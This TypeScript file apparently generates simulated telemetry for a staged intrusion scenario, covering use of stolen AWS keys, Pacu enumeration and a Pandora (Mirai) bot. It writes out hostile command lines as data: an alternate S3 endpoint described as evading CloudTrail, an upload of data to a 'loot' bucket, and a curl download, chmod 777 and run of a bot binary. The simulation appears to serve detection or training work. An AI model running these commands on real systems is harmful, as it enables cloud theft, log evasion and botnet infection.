import type { World } from '../api.ts'
import type { Process } from '../processes.ts'
import { connect, end, run, start } from '../runtime.ts'
import { SECOND_US } from '../timeline.ts'
import { curl } from './attack-foothold.ts'
import { AWS_API_IP, BIZMRG, PYPI_IP, STAGING_IP } from './indicators.ts'
import { at, attackStep } from './story.ts'

/** Steps 9 and 10: the cloud's command line with stolen keys, and the DDoS bot. What AWS saw of it is in no source here. */

function aws(
  world: World,
  parent: Process,
  when: string,
  words: readonly string[],
  peer: { ip: string; port: number }
): void {
  const args = ['/usr/bin/aws', ...words]
  const process = run(world, parent, at(when), { binary: '/usr/bin/aws', args, lasts_us: 2 * SECOND_US })
  connect(world, process, at(when) + 700_000, peer.ip, peer.port)
}

/** Step 9: aws with another provider's endpoint, so that nothing shows up in CloudTrail, and Pacu. */
export function useStolenKeys(world: World, shell: Process): void {
  const step = attackStep(world, 9, 'cloud')
  const awsApi = { ip: AWS_API_IP, port: 443 }
  const elsewhere = ['--endpoint-url', `https://${BIZMRG.name}`, '--profile', 'default']
  aws(step, shell, '15:00', ['sts', 'get-caller-identity'], awsApi)
  aws(step, shell, '15:06', ['s3', 'ls', ...elsewhere], BIZMRG)
  aws(step, shell, '15:11', ['s3', 'cp', 's3://tools/pacu.tgz', '/tmp/.x/pacu.tgz', ...elsewhere], BIZMRG)
  const pip = run(step, shell, at('15:20'), {
    binary: '/opt/conda/bin/pip',
    args: ['/opt/conda/bin/pip', 'install', '-q', 'pacu'],
    lasts_us: 9 * SECOND_US
  })
  connect(step, pip, at('15:21'), PYPI_IP, 443)
  const pacu = run(step, shell, at('15:40'), {
    binary: '/opt/conda/bin/pacu',
    args: ['/opt/conda/bin/pacu', '--session', 'x', '--module-name', 'iam__enum_permissions', '--exec'],
    lasts_us: 20 * SECOND_US
  })
  connect(step, pacu, at('15:43'), AWS_API_IP, 443)
  aws(step, shell, '16:10', ['s3', 'cp', '/tmp/.x/.cd.tgz', 's3://loot/prod-eu-1.tgz', ...elsewhere], BIZMRG)
}

/** Step 10: Pandora, of the Mirai family. */
export function startPandora(world: World, shell: Process): void {
  const step = attackStep(world, 10, 'pandora')
  const path = '/tmp/.x/pandora'
  curl(step, shell, at('16:40'), ['-s', '-o', path, `http://${STAGING_IP}/.bin/pandora`], { ip: STAGING_IP, port: 80 })
  run(step, shell, at('16:43'), { binary: '/usr/bin/chmod', args: ['777', path] })
  const pandora = start(step, shell, at('16:44'), { binary: path, args: ['scan.x86'] })
  connect(step, pandora, at('16:44.050'), STAGING_IP, 443)
  end(step, pandora, at('17:30'), { signal: 'SIGKILL' })
}
